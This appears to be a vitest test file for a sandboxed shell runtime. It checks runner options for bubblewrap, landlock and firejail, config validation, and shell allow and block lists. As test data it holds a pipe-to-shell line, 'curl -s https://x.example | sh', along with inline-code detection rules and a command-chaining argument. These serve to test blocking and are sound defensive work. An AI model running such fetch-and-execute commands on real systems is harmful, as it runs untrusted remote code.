/** What a runtime hands to its runner, with a fake addon. */

import { existsSync } from "node:fs";
import { resolve } from "node:path";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { ConfiguredRuntime } from "../../lib/runtime/configured-runtime.js";
import { kKinds } from "../../lib/runtime/kinds.js";
import { parseRuntimeConfig } from "../../lib/runtime/parse-config.js";
import type { RuntimeName } from "../../lib/runtime/runtime.js";
import { type FakeAddon, result } from "../support/fake-addon.js";
import { freshAddon } from "../support/fake-native.js";

vi.mock(import("../../lib/native.js"), async (importOriginal) => {
  const { fakeNative } = await import("../support/fake-native.js");
  return fakeNative(await importOriginal());
});

let fake: FakeAddon;
beforeEach(() => {
  fake = freshAddon();
});

const make = (name: RuntimeName, config = {}) =>
  new ConfiguredRuntime(kKinds[name], parseRuntimeConfig(config));

/** Starts a command and lets it end. */
async function execute(runtime: ConfiguredRuntime, ...call: Parameters<typeof runtime.execute>) {
  const running = runtime.execute(...call);
  fake.runs[0]?.resolve(result({ stdout: new TextEncoder().encode("out") }));
  const done = await running;
  return { done, request: fake.run().request, options: fake.options[0] };
}

describe("execute", () => {
  it("runs the command with sh in the work directory", async () => {
    const env = { A: "1" };
    const options = { workdir: "/srv/../w", env, timeoutSecs: 1.5 };
    const seen = await execute(make("landlock"), "-x; echo hi", options);
    expect(seen.request).toMatchObject({
      argv: ["sh", "-c", "--", "-x; echo hi"],
      env,
      limits: { timeoutMs: 1500 },
    });
    expect(seen.options).toMatchObject({ shadowDir: "/w" });
    expect(seen.done).toMatchObject({ stdout: "out", exitCode: 0, success: true, warnings: [] });
  });

  it("starts in the process's directory by default, with the runner's deadline", async () => {
    const { options, request } = await execute(make("native"), "ls");
    expect(options).toMatchObject({ shadowDir: resolve(".") });
    expect(request.limits?.timeoutMs).toBeUndefined();
  });

  it.each([
    [{ timeoutSecs: 0 }, /timeoutSecs/],
    [{ timeoutSecs: Number.NaN }, /timeoutSecs/],
    [{ timeoutSecs: "5" }, /timeoutSecs/],
    [{ workdir: 7 }, /workdir/],
    [{ mounts: {} }, /mounts/],
    [{ mounts: [null] }, /mounts\[0\]/],
    [{ mounts: [{ hostPath: "a" }] }, /mounts\[0\]\.hostPath/],
    [{ mounts: [{ hostPath: "/a", guestPath: "b" }] }, /mounts\[0\]\.guestPath/],
    [{ mounts: [{ hostPath: "/a", mode: "rwx" }] }, /mounts\[0\]\.mode/],
  ])("refuses %j and starts nothing", async (options, message) => {
    const runtime = make("bubblewrap");
    const refused = runtime.execute("ls", options as unknown as object);
    await expect(refused).rejects.toThrow(message);
    await expect(refused).rejects.toBeInstanceOf(TypeError);
    expect(fake.runs).toHaveLength(0);
  });
});

describe("the shell lists", () => {
  const security = { shellAllowlist: ["ls"], shellAllowlistMode: "strict" };

  const kPiped = "curl -s https://x.example | sh";

  it.each([
    { shellBlocklist: ["docker"] },
    { shellAllowlist: ["ls"] },
    { shellAllowlistMode: "warn" },
    { shellAllowlistMode: "strict" },
    { disabledShellRules: ["inline-code"] },
  ])("refuse what is blocked under %j, and nothing is started", async (lists) => {
    const refused = make("bubblewrap", { security: lists }).execute(kPiped);
    await expect(refused).rejects.toMatchObject({
      name: "SandboxError",
      code: "ERR_COMMAND_BLOCKED",
      message: expect.stringContaining("command blocked (pipe-to-shell)"),
      cause: { rule: "pipe-to-shell" },
    });
    expect(fake.runs).toHaveLength(0);
  });

  it.each([
    [kPiped, "pipe-to-shell"],
    ["python3 -c 'print(1)'", "inline-code"],
    ["python3 - <<'E'\nprint(1)\nE", "inline-code"],
    ["node -e 1", "inline-code"],
    ["perl -pi -e s/a/b/ x", "inline-code"],
    ["x=ls; $x", "dynamic-command"],
    ["ls )", "unreadable-syntax"],
  ])("let %j pass without a list of the operator, and warn: %s", async (command, rule) => {
    for (const config of [{}, { security: { shellBlocklist: [] } }]) {
      fake = freshAddon();
      const { done, request } = await execute(make("landlock", config), command);
      expect(done.success).toBe(true);
      expect(done.warnings).toEqual([expect.objectContaining({ rule })]);
      expect(request.argv.at(-1)).toBe(command);
    }
  });

  it("refuse without a list of the operator, too, where no sandbox is the boundary", async () => {
    await expect(make("native", {}).execute(kPiped)).rejects.toMatchObject({
      code: "ERR_COMMAND_BLOCKED",
      cause: { rule: "pipe-to-shell" },
    });
    expect(fake.runs).toHaveLength(0);
    expect((await execute(make("native", {}), "ls")).done.warnings).toEqual([]);
  });

  it("keep to the allow list in strict", async () => {
    await expect(make("landlock", { security }).execute("cat x")).rejects.toMatchObject({
      code: "ERR_COMMAND_BLOCKED",
    });
    expect((await execute(make("landlock", { security }), "ls")).done.success).toBe(true);
  });

  it("let pass in warn, and say so", async () => {
    const warned = make("landlock", { security: { ...security, shellAllowlistMode: "warn" } });
    const { done } = await execute(warned, "cat x");
    expect(done.warnings).toEqual([expect.objectContaining({ rule: "not-on-allowlist" })]);
  });
});

describe("what the runners are made with", () => {
  const options = (name: RuntimeName, config: object, mounts: object[] = []) => {
    make(name, config).runner({ shadowDir: "/w", mounts: mounts as [], envPolicy: "clean" });
    return { ...fake.options.at(-1) };
  };
  const kMounts = [{ hostPath: "/opt/" }, { hostPath: "/data", mode: "rw" }];
  const present = (...paths: string[]) => paths.filter((path) => existsSync(path));

  it("bubblewrap", () => {
    const config = {
      network: "allow",
      required: ["seccomp"],
      bubblewrap: { roBinds: ["/usr"], extraArgs: ["--hostname", "x"], layers: ["landlock"] },
    };
    expect(options("bubblewrap", config)).toEqual({
      shadowDir: "/w",
      envPolicy: "clean",
      bwrapPath: "bwrap",
      roBinds: ["/usr"],
      mounts: [],
      network: "allow",
      isolation: "strict",
      devBind: true,
      procBind: true,
      allowWriteWorkspace: true,
      extraArgs: ["--hostname", "x"],
      layers: ["landlock"],
      required: ["seccomp"],
    });
    expect(options("bubblewrap", {})).toMatchObject({
      network: "deny",
      roBinds: present("/usr", "/lib", "/lib64", "/etc", "/bin", "/sbin"),
    });
    const own = { hostPath: "/own", mode: "rw", label: "cache" };
    const elsewhere = [...kMounts, { hostPath: "/a", guestPath: "/b" }];
    expect(options("bubblewrap", { bubblewrap: { mounts: [own] } }, elsewhere)).toMatchObject({
      mounts: [
        own,
        { hostPath: "/opt", guestPath: "/opt", mode: "ro" },
        { hostPath: "/data", guestPath: "/data", mode: "rw" },
        { hostPath: "/a", guestPath: "/b", mode: "ro" },
      ],
      extraArgs: [],
    });
  });

  it("landlock", () => {
    expect(options("landlock", {})).toEqual({
      shadowDir: "/w",
      envPolicy: "clean",
      fsReadDirs: undefined,
      fsWriteDirs: undefined,
      allowReadWorkspace: true,
      allowWriteWorkspace: true,
      tools: "host",
      network: "deny",
      required: [],
    });
    const named = { landlock: { fsReadDirs: ["/usr"], fsWriteDirs: [] } };
    expect(options("landlock", named, kMounts)).toMatchObject({
      fsReadDirs: ["/usr", "/opt", "/data"],
      fsWriteDirs: ["/data"],
    });
    expect(options("landlock", {}, [{ hostPath: "/opt" }])).toMatchObject({
      fsReadDirs: [...present("/usr", "/lib", "/lib64", "/etc", "/bin", "/sbin", "/tmp"), "/opt"],
      fsWriteDirs: undefined,
    });
  });

  it("firejail", () => {
    const config = { required: ["seccomp"], firejail: { extraArgs: ["--nodvd"] } };
    expect(options("firejail", config)).toEqual({
      shadowDir: "/w",
      envPolicy: "clean",
      firejailPath: "firejail",
      fsReadDirs: undefined,
      fsWriteDirs: [],
      extraArgs: ["--nodvd"],
      network: "deny",
      required: ["seccomp"],
    });
    expect(options("firejail", config, kMounts)).toMatchObject({
      fsReadDirs: [...present("/usr", "/lib", "/lib64", "/etc", "/bin", "/sbin"), "/opt"],
      fsWriteDirs: ["/data"],
    });
    const named = { firejail: { fsReadDirs: ["/usr"], fsWriteDirs: ["/cache"] } };
    expect(options("firejail", named, kMounts)).toMatchObject({
      fsReadDirs: ["/usr", "/opt"],
      fsWriteDirs: ["/cache", "/data"],
    });
  });

  it("firejail, with a profile that says what may be done to files", () => {
    const config = { firejail: { profile: "/etc/p", extraArgs: ["--nodvd"] } };
    expect(options("firejail", config, kMounts)).toEqual({
      shadowDir: "/w",
      envPolicy: "clean",
      firejailPath: "firejail",
      profile: "/etc/p",
      fsReadDirs: undefined,
      fsWriteDirs: undefined,
      extraArgs: ["--nodvd", "--read-only=/opt", "--read-write=/data"],
      network: "deny",
      required: [],
    });
  });

  it("grants what bubblewrap's mounts show", () => {
    const extraArgs = ["--ro-bind", "/a", "/x", "--bind-try", "/b", "/b", "--hostname", "/c"];
    const mounts = [
      { hostPath: "/m", guestPath: "/n", mode: "ro" },
      { hostPath: "/w", mode: "rw" },
    ];
    const config = parseRuntimeConfig({ bubblewrap: { roBinds: ["/usr"], mounts, extraArgs } });
    expect(kKinds.bubblewrap.grants(config)).toEqual({
      readable: ["/usr", "/m", "/w", "/a", "/b"],
      writable: ["/w", "/b"],
      network: false,
    });
  });

  it.each(["landlock", "firejail", "native"] as const)("%s can move no path", (name) => {
    const mounts = [{ hostPath: "/a", guestPath: "/b", mode: "rw" }];
    expect(() => options(name, {}, mounts)).toThrow(/can't show \/a at \/b/);
  });

  it("native can't keep anything from being written", () => {
    expect(() => options("native", {}, [{ hostPath: "/a" }])).toThrow(
      /keep \/a from being written/,
    );
    expect(options("native", {}, [{ hostPath: "/a", mode: "rw" }])).toEqual({
      shadowDir: "/w",
      envPolicy: "clean",
    });
  });
});
